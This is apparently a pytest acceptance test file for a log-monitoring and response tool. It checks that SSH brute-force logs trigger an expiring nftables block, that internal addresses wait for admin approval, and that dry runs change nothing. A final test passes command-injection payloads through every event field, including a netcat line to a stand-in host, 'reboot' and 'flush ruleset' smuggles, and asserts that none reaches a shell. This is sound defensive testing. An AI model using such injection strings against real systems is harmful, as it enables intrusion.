"""Acceptance: a brute-force sample triggers the shipped playbook, end to end.

Ingest → detection → alert → the response worker starts ``brute-force-block`` → nftables argv
(recorded, not run) → the block expires on time and is lifted once. Internal sources wait for
an approval. A dry run shows the argv and changes nothing.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from typer.testing import CliRunner

from garrison.automation import Automation
from garrison.cli.main import app
from garrison.core.clock import FrozenClock
from garrison.ingest.pipeline import ingest_path
from garrison.ingest.summary import IngestSummary
from garrison.platform import Platform
from garrison.respond.actions.argv import RecordingRunner
from garrison.respond.runs import StepRecord
from garrison.settings import Settings

from .respond.actions.docker_fake import FakeDocker, serve_unix

ADD = ("nft", "add", "element", "inet", "garrison", "blocklist4")


def brute_force(source: str, minute: int = 0, count: int = 8) -> str:
    return "".join(
        f"Nov 23 11:{minute:02d}:{i:02d} web01 sshd[{2000 + i}]: Failed password for root"
        f" from {source} port {40000 + i} ssh2\n"
        for i in range(count)
    )


@pytest.fixture
def platform(db_url: str, clock: FrozenClock, tmp_path: Path) -> Iterator[Platform]:
    plat = Platform.open(
        Settings(home=tmp_path / "home", database_url=db_url, timezone="UTC"), clock
    )
    yield plat
    plat.close()


def ingest(platform: Platform, tmp_path: Path, text: str, name: str = "auth.log") -> None:
    path = tmp_path / name
    path.write_text(text)
    ingest_path(
        str(path),
        sink=platform.store,
        summary=IngestSummary(),
        options=platform.ingest_options(year=2026),
        clock=platform.clock,
    )
    platform.detect()


def adds(runner: RecordingRunner) -> list[tuple[str, ...]]:
    return [c for c in runner.calls if c[:6] == ADD]


def deletes(runner: RecordingRunner) -> list[tuple[str, ...]]:
    return [c for c in runner.calls if c[:3] == ("nft", "delete", "element")]


def test_brute_force_blocks_once_and_the_block_expires_on_time(
    platform: Platform, clock: FrozenClock, tmp_path: Path
) -> None:
    runner = RecordingRunner()
    automation = Automation(platform, runner=runner)
    ingest(platform, tmp_path, brute_force("203.0.113.7"))
    summary = automation.step()
    assert len(summary.started) == 1
    run = automation.runs.get(summary.started[0])
    assert (run.playbook, run.status, run.trigger) == ("brute-force-block", "succeeded", "alert")
    assert adds(runner) == [(*ADD, "{ 203.0.113.7 timeout 86400s }")]
    _, steps, _ = automation.view(run.id)
    by_step = {s.step: s for s in steps}
    assert by_step["approve_internal"].status == "skipped"  # an external address
    assert by_step["block"].effects[-1]["argv"] == [*ADD, "{ 203.0.113.7 timeout 86400s }"]
    assert by_step["notify"].status == "succeeded"

    # The same alert again, and a second burst: no second run, no second rule.
    assert automation.step().started == []
    ingest(platform, tmp_path, brute_force("203.0.113.7", minute=30), "more.log")
    automation.step()
    assert len(adds(runner)) == 1

    # Just before expiry nothing is lifted; just after, exactly once.
    clock.advance(timedelta(hours=24) - timedelta(seconds=1))
    assert automation.step().unblocked == []
    clock.advance(timedelta(seconds=2))
    assert automation.step().unblocked == ["203.0.113.7"]
    assert automation.step().unblocked == []
    assert len(deletes(runner)) == 1 and "203.0.113.7" in " ".join(deletes(runner)[0])
    assert automation.blocks.list() == []


def test_an_internal_source_waits_for_approval(
    platform: Platform, clock: FrozenClock, tmp_path: Path
) -> None:
    runner = RecordingRunner()
    automation = Automation(platform, runner=runner)
    ingest(platform, tmp_path, brute_force("10.20.30.40"))
    (run_id,) = automation.step().started
    run = automation.runs.get(run_id)
    assert run.status == "waiting" and adds(runner) == []
    (approval,) = automation.runs.approvals()
    assert approval.message == "Block the internal address 10.20.30.40 for 24h?"
    clock.advance(timedelta(minutes=5))
    record = automation.decide(approval.id, user="admin.wang", roles=["admin"], decision="approve")
    assert record.status == "approved"
    run, steps, approvals = automation.view(run_id)
    assert run.status == "succeeded"
    assert adds(runner) == [(*ADD, "{ 10.20.30.40 timeout 86400s }")]
    assert approvals[0].decisions[0].actor == "admin.wang"
    assert {s.step: s.output for s in steps}["approve_internal"]["approved_by"] == ["admin.wang"]


def test_dry_run_prints_the_nftables_argv_and_changes_nothing(
    platform: Platform, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ingest(platform, tmp_path, brute_force("198.51.100.9"))
    alert = next(a for a in platform.alerts.search(_filter()) if a.alert.level == "high")
    monkeypatch.setenv("GARRISON_HOME", str(platform.settings.home))
    monkeypatch.setenv("GARRISON_DATABASE_URL", platform.settings.resolved_database_url)
    monkeypatch.setenv("GARRISON_TIMEZONE", "UTC")
    result = CliRunner().invoke(
        app, ["playbooks", "dry-run", "brute-force-block", "--alert", str(alert.id)]
    )
    assert result.exit_code == 0, result.output
    assert "dry run: nothing was changed" in result.output
    assert "would run nft add element inet garrison blocklist4" in result.output
    assert "'{ 198.51.100.9 timeout 86400s }'" in result.output
    assert Automation(platform).blocks.list() == []


def _filter() -> object:
    from garrison.alerts.query import AlertFilter

    return AlertFilter()


PAYLOADS = [
    "; touch /tmp/garrison-pwned",
    "$(touch /tmp/garrison-pwned)",
    "`touch /tmp/garrison-pwned`",
    "a\nb; reboot",
    "| nc evil 4444",
    "--help",
    "${{ 7*7 }}",
    "fe80::1%x }; flush ruleset; {",
]


def test_injection_payloads_in_every_event_field_reach_no_shell(
    platform: Platform, tmp_path: Path
) -> None:
    """Every shipped playbook, live, on an alert whose every field is a payload.

    Host commands go to a recording runner, container actions to a fake Docker daemon that
    records every request: no argv, path or body may carry a payload.
    """
    docker = FakeDocker()
    with serve_unix(docker) as url:
        platform.settings.response.docker_url = url
        runner = _run_payloads(platform)
    for request in docker.requests:
        for payload in PAYLOADS:
            assert payload not in request.path and payload not in str(request.body)
    assert not Path("/tmp/garrison-pwned").exists()
    runs = Automation(platform).runs.list(limit=1000)
    assert len(runs) >= len(PAYLOADS)  # the playbooks did run and refused the values
    steps = [s for r in runs for s in platform_steps(platform, r.id)]
    errors = " ".join(s.error or "" for s in steps if s.status == "failed")
    assert "not an acceptable user name" in errors
    for argv in runner.calls:
        assert argv[0] not in ("sh", "bash", "dash", "zsh", "env", "busybox")
        assert "-c" not in argv[:2]
        for arg in argv:
            for payload in PAYLOADS:
                assert payload not in arg, (argv, payload)


def platform_steps(platform: Platform, run_id: int) -> list[StepRecord]:
    return Automation(platform).runs.steps(run_id)


def _run_payloads(platform: Platform) -> RecordingRunner:
    runner = RecordingRunner()
    automation = Automation(platform, runner=runner)
    for payload in PAYLOADS:
        event = {
            "source": {"ip": payload},
            "user": {"name": payload},
            "host": {"name": payload},
            "url": {"path": "/" + payload},
            "container": {"name": payload, "id": payload},
            "process": {"pid": payload, "command_line": payload},
            "file": {"path": payload},
            "message": payload,
        }
        context = {
            "alert": {
                "id": 1,
                "rule_id": payload,
                "title": payload,
                "level": "critical",
                "tags": [payload],
                "group": {"source.ip": payload},
                "count": 9,
                "source_ip": payload,
                "user": payload,
                "host": payload,
                "event_ids": [],
            },
            "event": event,
        }
        for playbook_id in automation.catalog().playbooks:
            try:
                automation.start(playbook_id, actor="test", context=context)
            except Exception as exc:  # refused input is fine; a crash is not
                from garrison.core.errors import GarrisonError

                assert isinstance(exc, GarrisonError), exc
    for approval in automation.runs.approvals():  # let every run reach its actions
        automation.decide(approval.id, user="root", roles=["admin"], decision="approve")
    return runner
